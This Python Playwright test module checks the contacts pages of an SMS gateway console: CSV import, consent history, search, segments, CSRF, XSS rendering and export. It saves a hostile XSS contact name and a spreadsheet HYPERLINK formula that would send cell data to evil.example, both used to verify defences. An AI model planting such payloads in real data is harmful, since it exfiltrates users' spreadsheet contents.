"""The contacts pages in a real browser (Playwright driving Debian's Chromium) against the real daemon
on a virtual modem: CSV import with a broken row reported on screen and in the rejected-rows download,
a STOP the customer sent from the virtual network in the contact's consent history, search by a
Cyrillic name, a segment's live count following its rule (htmx), a hostile contact name shown as
text, the export's formulas neutralised, login and CSRF; axe-core on each page and screenshots at
390 and 1280 px, English and Arabic, in test-artifacts/console/.

One daemon and one browser context per language for the module; the pages are reused.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import select

from gateway.audience import directory
from gateway.consent.models import ConsentEvent
from gateway.core.clock import FakeClock

from .browser_helpers import (  # noqa: F401  (fixture)
    XSS, assert_signed_out_are_sent_to_login, browser, check, console_daemon, pages_fixture)
from .modem_helpers import wait_until

pytestmark = pytest.mark.timeout(120)
CUSTOMER = "+447700900123"


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    with console_daemon(tmp_path_factory.mktemp("contacts"), FakeClock(),
                        modems=[{"name": "template", "port": "unused"}]) as daemon:
        yield daemon


# Pages that keep what they download (the export, the rejected rows).
pages = pages_fixture(accept_downloads=True)


def _save(shop, number: str, name: str, **kwargs) -> int:
    with shop.queue.sessions.begin() as session:
        return directory.save(session, None, directory.Details(number=number, name=name, **kwargs),
                              now=shop.clock.now(), default_region="GB").id


def test_the_pages_need_a_login_and_a_post_needs_its_token(browser, shop):
    assert_signed_out_are_sent_to_login(browser, shop.url, ("/contacts", "/groups", "/contacts/import"))
    context = browser.new_context()
    try:
        answer = context.request.post(f"{shop.url}/contacts/1/consent", form={"opt_out": "1"})
        assert answer.status == 400 or "/login" in answer.url
    finally:
        context.close()


def test_a_post_without_its_token_is_refused_when_signed_in(pages, shop):
    page = pages()
    contact_id = _save(shop, "+447700900150", "Token Test")
    answer = page.request.post(f"{shop.url}/contacts/{contact_id}/consent", form={"opt_out": "1"})
    assert answer.status == 400 and "security token" in answer.text()
    with shop.queue.sessions() as session:
        assert session.scalars(select(ConsentEvent).where(ConsentEvent.contact_id == contact_id)).all() == []


def test_import_reports_a_broken_row_on_screen_and_in_the_download(pages, shop):
    page = pages()
    page.goto(f"{shop.url}/contacts/import")
    check(page, "contacts-import")
    body = "number,name,tags\n07700 900201,Ольга Петрова,vip\n12,Broken Row,vip\n+447700900202,Ann,vip\n"
    page.set_input_files("#file", files=[{"name": "list.csv", "mimeType": "text/csv", "buffer": body.encode()}])
    page.click("button[type=submit].primary")
    assert page.locator("h1").inner_text() == "Import report"
    rejected = page.locator("tr.row-rejected")
    assert rejected.count() == 1 and "invalid number" in rejected.inner_text()
    assert page.locator(".outcome-created dd").inner_text() == "2"
    with page.expect_download() as download:
        page.click("a[href$='rejected.csv']")
    rows = list(csv.reader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
    assert rows[0] == ["number", "name", "tags", "reason"]
    assert rows[1][:3] == ["12", "Broken Row", "vip"] and rows[1][3].startswith("invalid number")
    check(page, "contacts-import-report")
    arabic = pages("ar")
    arabic.goto(page.url)
    assert arabic.locator("html").get_attribute("dir") == "rtl"
    check(arabic, "contacts-import-report-ar")


def test_a_search_finds_a_contact_by_a_cyrillic_name(pages, shop):
    _save(shop, "+79161234567", "Светлана Иванова")
    _save(shop, "+79161234568", "Sveta Smith")
    page = pages()
    page.goto(f"{shop.url}/contacts")
    page.fill("#q", "светлана")
    page.click("form.search button[type=submit]")
    names = page.locator("table.contacts a.name").all_inner_texts()
    assert names == ["Светлана Иванова"]
    assert page.locator("table.contacts bdi[dir=ltr]").all_inner_texts() == ["+79161234567"]


def test_the_consent_history_shows_the_stop_the_customer_sent(pages, shop):
    contact_id = _save(shop, CUSTOMER, "Fatima", tags=["vip"], groups=["newsletter"])
    port = next(iter(shop.simulator.ports.values()))
    port.modem.inject_sms(CUSTOMER, "STOP please")

    def stop_recorded():
        with shop.queue.sessions() as session:
            return session.scalar(select(ConsentEvent).where(ConsentEvent.contact_id == contact_id,
                                                             ConsentEvent.inbound_message_id.is_not(None)))

    wait_until(stop_recorded, 20, "the customer's STOP in the ledger")
    page = pages()
    page.goto(f"{shop.url}/contacts/{contact_id}")
    row = page.locator("table.history tbody tr").first
    assert "By SMS, from the customer" in row.inner_text() and "Opted out" in row.inner_text()
    said = row.locator("bdi.text")
    assert said.inner_text() == "STOP please" and said.get_attribute("dir") == "auto"
    assert "pressing Opt in here only asks them" in page.locator("p.note").inner_text()
    check(page, "contact")
    page.click("button[name=opt_in]")
    assert "a text asking them to reply YES was sent" in page.locator("p.flash").inner_text()
    assert page.locator(".consent-now .badge").inner_text() == "Opted out"  # only the customer's YES opts in
    arabic = pages("ar")
    arabic.goto(f"{shop.url}/contacts/{contact_id}")
    check(arabic, "contact-ar")
    arabic.goto(f"{shop.url}/contacts")
    check(arabic, "contacts-ar")
    page.goto(f"{shop.url}/contacts")
    check(page, "contacts")


def test_a_hostile_contact_name_renders_as_text(pages, shop):
    contact_id = _save(shop, "+447700900160", XSS, tags=[XSS])
    page = pages()
    page.goto(f"{shop.url}/contacts/{contact_id}")
    assert page.locator("h1").inner_text() == XSS
    page.goto(f"{shop.url}/contacts")
    assert XSS in page.locator("table.contacts a.name").all_inner_texts()
    assert page.locator("main script").count() == 0 and page.locator("main img").count() == 0
    page.goto(f"{shop.url}/contacts/{contact_id}/edit")
    assert page.input_value("#name") == XSS
    assert page.dialogs == []


def test_a_segments_live_count_follows_its_rule(pages, shop):
    from playwright.sync_api import expect

    _save(shop, "+447700900301", "Seg One", tags=["segtest"])
    _save(shop, "+447700900302", "Seg Two", tags=["segtest"], language="ru")
    _save(shop, "+447700900303", "Seg Three", tags=["segtest"], language="ru")
    page = pages()
    page.goto(f"{shop.url}/segments/new")
    count = page.locator("#segment-count .matching")

    def shows(matching: int) -> None:  # waits for the count htmx swaps in, nothing else
        expect(count).to_have_text(f"Contacts who match: {matching}", timeout=20_000)

    page.select_option("#conditions-0-kind", "tag")
    page.fill("#conditions-0-value", "segtest")
    shows(3)
    page.select_option("#conditions-1-kind", "language")
    page.fill("#conditions-1-value", "ru")
    shows(2)
    page.check("#conditions-1-negate")
    shows(1)
    page.fill("#conditions-0-value", "no-such-tag")
    shows(0)
    assert page.url == f"{shop.url}/segments/new"  # counted in place, not by a new page
    page.fill("#conditions-0-value", "segtest")
    shows(1)
    page.fill("#name", "Segment test")
    page.click("button[name=submit]")
    assert page.locator("h1").inner_text() == "Groups and segments"
    check(page, "groups")
    arabic = pages("ar")
    arabic.goto(f"{shop.url}/groups")
    check(arabic, "groups-ar")
    page.click("text=Segment test")
    shows(1)  # the saved rule, counted by the page itself
    check(page, "segment")


def test_the_export_neutralises_a_hyperlink_formula(pages, shop):
    _save(shop, "+447700900401", '=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    page = pages()
    page.goto(f"{shop.url}/contacts")
    with page.expect_download() as download:
        page.click("a[href='/contacts/export.csv']")
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
    row = next(r for r in rows if r["number"] == "+447700900401")
    assert row["name"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
